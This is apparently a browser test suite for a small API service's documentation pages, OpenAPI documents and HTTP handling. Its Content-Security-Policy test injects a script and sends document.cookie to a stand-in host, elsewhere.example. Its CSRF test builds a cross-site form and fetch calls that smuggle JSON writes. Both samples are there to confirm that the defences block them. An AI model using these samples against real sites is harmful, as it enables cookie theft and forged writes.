import { execFile } from 'node:child_process'
import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { promisify } from 'node:util'
import { openBrowser } from '@resource/browser-test'
import { API_VERSION, contract } from '@resource/contract'
import type { Browser, Locator, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { DOCUMENTED } from './examples.ts'
import { startTestServer, type TestServer } from './harness.ts'

const execute = promisify(execFile)

let server: TestServer
let browser: Browser

// The first start unpacks the browser, which is slow on a slow disk.
beforeAll(async () => {
  server = await startTestServer()
  browser = await openBrowser()
}, 120_000)

afterAll(async () => {
  await browser?.close()
  await server?.[Symbol.asyncDispose]()
})

/**
 * Opens `path` in a fresh browser context and runs `act`. Expects no console output, no error, no violation of the
 * Content-Security-Policy and no request to another host.
 */
async function visit(path: string, act: (page: Page) => Promise<void>) {
  await using context = await browser.newContext({ viewport: { width: 1280, height: 900 } })
  const page = await context.newPage()
  const problems: string[] = []
  page.on('console', (message) => {
    if (message.text() !== REDOC_WARNING) problems.push(message.text())
  })
  page.on('pageerror', (error) => problems.push(error.message))
  page.on('request', (request) => {
    if (isForeign(request.url())) problems.push(`request to ${request.url()}`)
  })
  await page.addInitScript(reportViolations)
  await page.goto(server.url + path)
  await act(page)
  expect(problems).toEqual([])
}

// Redoc prints this for each response that is an array or, on request, the envelope; the sample it shows is correct.
const REDOC_WARNING = 'OpenAPI Sampler: found allOf with "array" type. Result may be incorrect'

const reportViolations = `addEventListener('securitypolicyviolation', (event) =>
  console.error('stopped by policy', event.effectiveDirective, event.blockedURI))`

function isForeign(url: string) {
  return !url.startsWith(`${server.url}/`) && !url.startsWith('data:')
}

test('the index names the service and links to its pages, collections, documents, client package and probes', () =>
  visit('/', async (page) => {
    expect(await page.getByRole('heading', { level: 1 }).textContent()).toBe('Resource Service')
    await page.getByText(`version ${API_VERSION}`).waitFor()
    const links = await page.locator('main').getByRole('link').all()
    expect(await Promise.all(links.map((link) => link.getAttribute('href')))).toEqual([
      '/console',
      '/docs',
      '/redoc',
      '/console/users',
      '/console/books',
      '/console/items',
      '/openapi.json',
      '/openapi-3.0.json',
      '/openapi-envelope.json',
      '/client.tgz',
      '/healthz',
      '/readyz',
      '/metrics',
    ])
    await page.locator('main').getByRole('link', { name: 'Try it' }).click()
    await page.getByText('List users', { exact: true }).waitFor()
  }))

test('the index shows what runs: state, records, engine, time, requests, and whether keys are required', () =>
  visit('/', async (page) => {
    const health = page.locator('.health')
    await health.getByText('Running').waitFor()
    await health.getByText('0 records').waitFor()
    await page.getByText('requests/s, last minute').waitFor()
    await expect.poll(() => shown(health)).toMatch(/^Running version \S+ 0 records SQLite up \d min no key yet$/)
    await page.getByRole('link', { name: 'Items /items 0' }).waitFor()
  }))

/** The texts that show of the parts of an element. */
async function shown(element: Locator) {
  const parts = await element.locator('> span').filter({ visible: true }).allTextContents()
  return parts.map((text) => text.trim()).join(' ')
}

test('once a key exists, the index tells a stranger the state, the version and that keys are required, and no more', async () => {
  await using own = await startTestServer()
  const created = await own.request('POST', '/api/keys', { json: { name: 'operator', role: 'reader' } })
  expect((await fetch(`${own.url}/console/status`)).status).toBe(401)
  const read = await fetch(`${own.url}/console/status`, { headers: { Authorization: `Bearer ${created.body.key}` } })
  expect(await read.json()).toEqual({
    version: API_VERSION,
    database: 'SQLite',
    started_at: expect.any(String),
    requests: expect.any(Array),
    errors: 0,
    p99_ms: expect.any(Number),
  })
  await using context = await browser.newContext()
  const page = await context.newPage()
  await page.goto(own.url)
  await page.getByText('keys required').waitFor()
  await expect.poll(() => shown(page.locator('.health'))).toMatch(/^Running version \S+ keys required$/)
  expect(await page.getByText('requests/s').isVisible()).toBe(false)
  expect(await page.locator('[data-path]').allTextContents()).toEqual(['', '', ''])
  await page.getByText('Authorization: Bearer rsk_…').first().waitFor()
})

test('the index has requests to copy, which name the address of the page and work in a shell', () =>
  visit('/', async (page) => {
    await page.getByText('no key yet').waitFor()
    const panel = page.getByRole('tabpanel')
    const created = { id: 1, name: 'Desk lamp', price: 24.5, category: 'lighting' }
    const { stdout } = await execute('sh', ['-c', (await panel.textContent()) ?? ''])
    expect(stdout).toBe(JSON.stringify({ item: created }) + JSON.stringify([created]))
    await server.request('DELETE', '/items/1')
    await page.getByRole('tab', { name: 'cURL' }).press('ArrowRight')
    expect(await panel.textContent()).toContain(`// npm install ${server.url}/client.tgz\n`)
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write'])
    await page.getByRole('button', { name: 'Copy' }).click()
    await page.getByRole('button', { name: 'Copied' }).waitFor()
    expect(await page.evaluate('navigator.clipboard.readText()')).toBe(await panel.textContent())
  }))

test('the theme that one page sets applies to all pages and to the console, before they show', () =>
  visit('/', async (page) => {
    const ground = async () => page.evaluate('getComputedStyle(document.body.parentElement).backgroundColor')
    expect(await ground()).toBe('rgb(246, 247, 249)')
    await page.getByText('no key yet').waitFor()
    await page.locator('.account').click()
    await page.getByText('Dark', { exact: true }).click()
    expect(await ground()).toBe('rgb(12, 14, 18)')
    expect(await page.evaluate("localStorage.getItem('console-preferences')")).toBe(
      '{"version":0,"state":{"theme":"dark"}}',
    )
    for (const path of ['/docs', '/redoc']) {
      await page.goto(server.url + path, { waitUntil: 'domcontentloaded' })
      expect(await ground()).toBe('rgb(12, 14, 18)')
    }
  }))

test('/docs creates a user from a JSON body, shows the response, and reads the user', () =>
  visit('/docs', async (page) => {
    const create = await openOperation(page, 'createUser')
    await create.locator('.body-param textarea').fill('{"name":"Ada Lovelace","email":"ada@example.com"}')
    await create.getByRole('button', { name: 'Send' }).click()
    const created = await readAnswer(create)
    expect(created).toEqual({
      status: '201',
      body: { id: 1, name: 'Ada Lovelace', email: 'ada@example.com', role: 'user', created_at: expect.any(String) },
    })

    const get = await openOperation(page, 'getUser')
    await get.getByPlaceholder('id').fill('1')
    await get.getByRole('button', { name: 'Send' }).click()
    expect(await readAnswer(get)).toEqual({ status: '200', body: created.body })
  }))

test('/docs shows the answer in sight of the button that sent the request, and folds what is documented', () =>
  visit('/docs#/Users/listUsers', async (page) => {
    const operation = page.locator('#operations-Users-listUsers')
    await operation.getByRole('button', { name: /^400 Invalid/ }).click()
    await operation.getByText('Internal error; the message contains the id of the request').waitFor()
    expect(await operation.locator('tr.response').count()).toBe(1)
    // The form is longer than the window.
    expect(await placeOf(operation.getByRole('button', { name: 'Send' }))).toBe('in the window')
    await operation.getByRole('button', { name: 'Send' }).click()
    const answer = operation.locator('.answer')
    await answer.getByText('200', { exact: true }).waitFor()
    await expect.poll(() => placeOf(answer)).toBe('in the window')
    expect(await placeOf(operation.getByRole('button', { name: 'Send' }))).toBe('in the window')
  }))

test('/docs sends its requests with the key that is entered, for visitors without a session', async () => {
  await using own = await startTestServer()
  const { body } = await own.request('POST', '/api/keys', { json: { name: 'operator', role: 'reader' } })
  await using context = await browser.newContext({ viewport: { width: 1280, height: 900 } })
  const page = await context.newPage()
  await page.goto(`${own.url}/docs#/Users/listUsers`)
  const operation = page.locator('#operations-Users-listUsers')
  await operation.getByRole('button', { name: 'Send' }).click()
  await operation.locator('.badge').getByText('401').waitFor()
  expect(await page.getByRole('link', { name: 'log in to the console' }).getAttribute('href')).toBe('/console/')
  await page.getByRole('button', { name: 'Use a key…' }).click()
  await page.getByRole('dialog', { name: 'Use a key' }).getByLabel('API key').fill(body.key)
  await page.keyboard.press('Enter')
  await page.getByText(`Requests use the key ${body.key.slice(0, 12)}…. They change real data.`).waitFor()
  await operation.getByRole('button', { name: 'Send' }).click()
  await operation.locator('.badge').getByText('200').waitFor()
})

test('/docs and /redoc show the same conventions at the same place, and paths as callers write them', async () => {
  const conventions: unknown[] = []
  for (const path of ['/docs#/Conventions', '/redoc#tag/Conventions']) {
    await visit(path, async (page) => {
      const text = page.locator('#conventions')
      await text.getByText('Users, books and items over JSON.').waitFor()
      conventions.push([await text.textContent(), await text.boundingBox()])
      await page.getByRole('link', { name: 'Items' }).click()
      await page.getByText('/items', { exact: true }).first().waitFor()
      expect(await text.isVisible()).toBe(false)
    })
  }
  expect(conventions[0]).toEqual(conventions[1])
})

/** Whether all of an element is in the window, below the header. */
async function placeOf(element: Locator) {
  const { y = 0, height = 0 } = (await element.boundingBox()) ?? {}
  return y >= 48 && y + height <= 900 ? 'in the window' : `from ${y} to ${y + height}`
}

async function openOperation(page: Page, operationId: string) {
  const operation = page.locator(`#operations-Users-${operationId}`)
  await operation.locator('.opblock-summary-control').click()
  return operation
}

async function readAnswer(operation: Locator) {
  const answer = operation.locator('.answer')
  const body = await answer.locator('pre').first().textContent()
  const status = await answer.locator('.badge').textContent()
  return { status, body: JSON.parse(body ?? '') }
}

/** The views of a documentation page, from the links in its sidebar. */
async function viewsOf(page: Page) {
  const links = page.getByRole('navigation', { name: 'Operations' }).locator('section').getByRole('link')
  await links.first().waitFor()
  return links.all()
}

/** Follows the link to the document of the envelope, which shows the same view. */
async function showEnvelope(page: Page, shown: Locator) {
  const document = page.waitForResponse((response) => response.url().endsWith('/openapi-envelope.json'))
  await page.getByRole('link', { name: 'Envelope', exact: true }).click()
  expect((await document).status()).toBe(200)
  await shown.waitFor()
}

test('C60 /docs shows the operations of one tag at a time, in all every operation, the conventions, the schemas, the envelope', () =>
  visit('/docs', async (page) => {
    await page.getByText('List users', { exact: true }).waitFor()
    await page.getByRole('button', { name: 'Schemas' }).waitFor()
    let seen = 0
    for (const link of await viewsOf(page)) {
      await link.click()
      await expect.poll(() => link.getAttribute('aria-current')).toBe('page')
      const isEmpty = (await link.textContent()) === 'Conventions'
      await page
        .locator('.opblock')
        .first()
        .waitFor({ state: isEmpty ? 'detached' : 'visible' })
      const operations = await page.locator('.opblock').count()
      expect(await link.textContent()).toMatch(operations === 0 ? /^Conventions$/ : new RegExp(`\\D${operations}$`))
      seen += operations
    }
    expect(seen).toBe(DOCUMENTED)
    await page.goto(`${server.url}/docs#conventions`)
    await page.getByText('can be retried safely').waitFor()
    await page.goto(`${server.url}/docs#/Items/createItem`)
    await page.getByRole('heading', { name: 'Items', level: 1 }).waitFor()
    const body = page.locator('#operations-Items-createItem textarea')
    await body.waitFor()
    await showEnvelope(page, body)
  }))

test('C60 /redoc shows every operation, its schemas and samples, the envelope, and fits a narrow screen', () =>
  visit('/redoc', async (page) => {
    await page.getByText('1 to 200 characters').first().waitFor()
    expect(await page.getByText('"Ada Lovelace"').count()).toBeGreaterThan(0)
    const headings: string[] = []
    for (const link of await viewsOf(page)) {
      const name = (await link.locator('span').textContent()) ?? ''
      await link.click()
      await page.getByRole('heading', { name, exact: true, level: 1 }).waitFor()
      const operations = page.locator(`[id^="tag/${name.replaceAll(' ', '-')}/operation/"] h2`)
      await (name === 'Conventions' ? page.getByText('can be retried safely') : operations.first()).waitFor()
      expect(await page.locator('.operations a').count()).toBe(await operations.count())
      headings.push(name, ...(await operations.allTextContents()).map((text) => text.trim()))
    }
    // Users have three tags, one for each of their APIs.
    expect(headings).toHaveLength(1 + Object.keys(contract).length + 2 + DOCUMENTED)
    expect(headings).toEqual(expect.arrayContaining(['Users', 'List users', 'Books', 'Items', 'Delete an item']))
    await showEnvelope(page, page.locator('[id*="/operation/"] h2').first())
    await page.setViewportSize({ width: 390, height: 900 })
    await expect.poll(() => page.evaluate('innerWidth')).toBe(390)
    expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(390)
  }))

for (const path of ['/', '/docs', '/redoc']) {
  test(`${path} forbids inline scripts, eval and every other host`, async () => {
    const { headers } = await fetch(server.url + path)
    expect(headers.get('content-type')).toBe('text/html; charset=utf-8')
    expect(headers.get('content-security-policy')).toMatch(/^default-src 'none'; script-src 'self'; style-src 'self'/)
    expect(headers.get('content-security-policy')).not.toMatch(/unsafe|blob:|https?:|\*/)
    expect(headers.get('x-content-type-options')).toBe('nosniff')
    expect(headers.get('referrer-policy')).toBe('no-referrer')
    expect(headers.get('cache-control')).toBe('no-cache')
  })

  test(`${path} in a real browser: its policy (CSP) blocks injected scripts and requests`, async () => {
    await using context = await browser.newContext()
    const page = await context.newPage()
    // The scripts of the page would render a long document, which the policy does not depend on.
    await page.route('**/*.js', (route) => route.abort())
    await page.goto(server.url + path)
    const stopped = await page.evaluate<string[]>(`new Promise((resolve) => {
      const stopped = new Set()
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        stopped.add(effectiveDirective)
        if (stopped.size === 3) resolve([...stopped].sort())
      })
      const script = document.createElement('script')
      script.textContent = 'window.owned = 1'
      document.body.append(script)
      document.body.insertAdjacentHTML('beforeend', '<b onclick="window.owned = 1">x</b>')
      document.body.lastChild.click()
      new Image().src = 'https://elsewhere.example/' + document.cookie
    })`)
    expect(stopped).toEqual(['img-src', 'script-src-attr', 'script-src-elem'])
    expect(await page.evaluate('window.owned')).toBe(undefined)
  })

  test(`${path} supports HEAD and OPTIONS and refuses other methods`, async () => {
    const head = await fetch(server.url + path, { method: 'HEAD' })
    expect([head.status, await head.text()]).toEqual([200, ''])
    const options = await fetch(server.url + path, { method: 'OPTIONS' })
    expect([options.status, options.headers.get('allow')]).toEqual([204, 'GET, HEAD, OPTIONS'])
    const refused = await fetch(server.url + path, { method: 'DELETE' })
    expect([refused.status, refused.headers.get('allow')]).toEqual([405, 'GET, HEAD, OPTIONS'])
    expect(await refused.json()).toEqual({
      status: 'error',
      error: {
        code: 405,
        message: 'DELETE is not allowed here, only GET, HEAD or OPTIONS',
        details: `DELETE ${path}`,
      },
    })
  })
}

for (const [path, type] of [
  ['/healthz', 'application/json; charset=utf-8'],
  ['/readyz', 'application/json; charset=utf-8'],
  ['/openapi.json', 'application/json; charset=utf-8'],
  ['/openapi-3.0.json', 'application/json; charset=utf-8'],
  ['/openapi-envelope.json', 'application/json; charset=utf-8'],
] as const) {
  test(`${path} supports GET, HEAD and OPTIONS and refuses other methods`, async () => {
    const get = await server.request('GET', path)
    expect([get.status, get.headers.get('content-type')]).toEqual([200, type])
    const head = await server.request('HEAD', path)
    expect([head.status, head.body]).toEqual([200, undefined])
    expect(head.headers.get('content-length')).toBe(get.headers.get('content-length'))
    const options = await server.request('OPTIONS', path)
    expect([options.status, options.headers.get('allow')]).toEqual([204, 'GET, HEAD, OPTIONS'])
    const refused = await server.request('POST', path, { json: {} })
    expect([refused.status, refused.headers.get('allow')]).toEqual([405, 'GET, HEAD, OPTIONS'])
    expect(refused.body).toEqual({
      status: 'error',
      error: {
        code: 405,
        message: 'POST is not allowed here, only GET, HEAD or OPTIONS',
        details: `POST ${path}`,
      },
    })
  })
}

test('a page of another site cannot write through a real browser, by form or by script (CSRF)', async () => {
  const text = JSON.stringify({ name: 'Sofa', price: 1 })
  const form = `<form method="post" enctype="text/plain" action="${server.url}/items/"><input name='${text.slice(0, -1)},"x":"' value='"}'></form>`
  await using elsewhere = createServer((_req, res) => res.setHeader('Content-Type', 'text/html').end(form))
  elsewhere.listen(0, '127.0.0.1')
  await once(elsewhere, 'listening')
  await using context = await browser.newContext()
  const page = await context.newPage()
  // For the browser, localhost and 127.0.0.1 are different sites.
  await page.goto(`http://localhost:${(elsewhere.address() as AddressInfo).port}/`)
  for (const type of ['text/plain', 'application/json']) {
    const init = JSON.stringify({
      method: 'POST',
      mode: 'no-cors',
      credentials: 'include',
      headers: { 'Content-Type': type },
      body: text,
    })
    await page.evaluate(`fetch('${server.url}/items/', ${init}).catch(() => undefined)`)
  }
  const [answer] = await Promise.all([
    page.waitForResponse(`${server.url}/items/`),
    page.evaluate('document.forms[0].submit()'),
  ])
  expect([answer.request().method(), answer.status()]).toEqual(['POST', 403])
  expect((await server.request('GET', '/items')).body).toEqual([])
})

test('C60, C61 the probes return a status word, and the document is OpenAPI 3.1', async () => {
  expect((await server.request('GET', '/healthz')).body).toEqual({ status: 'ok' })
  expect((await server.request('GET', '/readyz')).body).toEqual({ status: 'ready' })
  expect((await server.request('GET', '/openapi.json')).body).toMatchObject({
    openapi: expect.stringMatching(/^3\.1\./),
    info: { title: 'Resource Service', version: API_VERSION },
  })
})

test('an OpenAPI document names the address at which the service was reached', async () => {
  for (const path of ['/openapi.json', '/openapi-3.0.json', '/openapi-envelope.json']) {
    expect((await server.request('GET', path)).body.servers).toEqual([{ url: server.url }])
  }
  const url = server.url.replace('127.0.0.1', 'localhost')
  const document = (await (await fetch(`${url}/openapi.json`)).json()) as { servers: object[] }
  expect(document.servers).toEqual([{ url }])
})

test('behind a proxy an OpenAPI document names https only if a trusted proxy says so, and never http by mistake', async () => {
  await using trusting = await startTestServer({ TRUST_PROXY: 'loopback' })
  const addressIn = async ({ url }: TestServer, headers: Record<string, string>) => {
    const response = await fetch(`${url}/openapi.json`, { headers })
    return ((await response.json()) as { servers: { url: string }[] }).servers[0]?.url
  }
  const client = { 'X-Forwarded-For': '203.0.113.5' }
  const https = { ...client, 'X-Forwarded-Proto': 'https' }
  expect(await addressIn(trusting, https)).toBe(trusting.url.replace('http:', 'https:'))
  expect(await addressIn(trusting, client)).toBe('/')
  expect(await addressIn(server, https)).toBe('/')
  expect(await addressIn(server, { Via: '1.1 proxy' })).toBe('/')
})

test('C60 /openapi-3.0.json is the document in OpenAPI 3.0', async () => {
  const { body } = await server.request('GET', '/openapi-3.0.json')
  expect(body.openapi).toBe('3.0.3')
  expect(body.components.schemas.User.properties.age).toMatchObject({ type: 'integer', nullable: true })
  expect(body.components.schemas.Key.properties.revoked_at).toMatchObject({ type: 'string', nullable: true })
  // Elsewhere `nullable` has no effect.
  expect(schemasWith(body, 'nullable').filter(({ type }) => type === undefined)).toEqual([])
  const { paths } = (await server.request('GET', '/openapi.json')).body
  expect(Object.keys(body.paths)).toEqual(Object.keys(paths))
})

test('/docs/ is the same page as /docs', async () => {
  const [plain, slashed] = await Promise.all([fetch(`${server.url}/docs`), fetch(`${server.url}/docs/`)])
  expect(slashed.status).toBe(200)
  expect(await slashed.text()).toBe(await plain.text())
})

test('the browser caches the files of a page for a year', async () => {
  const html = await (await fetch(`${server.url}/docs`)).text()
  const paths = [...html.matchAll(/(?:link|script)[^>]*(?:href|src)="([^"]+)"/g)].map((match) => match[1])
  expect(paths).toHaveLength(12)
  for (const path of paths) {
    const { status, headers } = await fetch(server.url + path)
    expect(status).toBe(200)
    expect(headers.get('cache-control')).toBe('public, max-age=31536000, immutable')
    expect(headers.get('content-encoding')).toBe('gzip')
  }
})

test('an unknown path under /assets is passed on to the rest of the service', async () => {
  const { status } = await fetch(`${server.url}/assets/0000000000000000/pages.css`)
  expect(status).toBe(404)
})

/** All objects in a document that have a key. */
function schemasWith(node: unknown, key: string): Record<string, unknown>[] {
  if (typeof node !== 'object' || node === null) return []
  const nested = Object.values(node).flatMap((child) => schemasWith(child, key))
  return Object.hasOwn(node, key) ? [node as Record<string, unknown>, ...nested] : nested
}
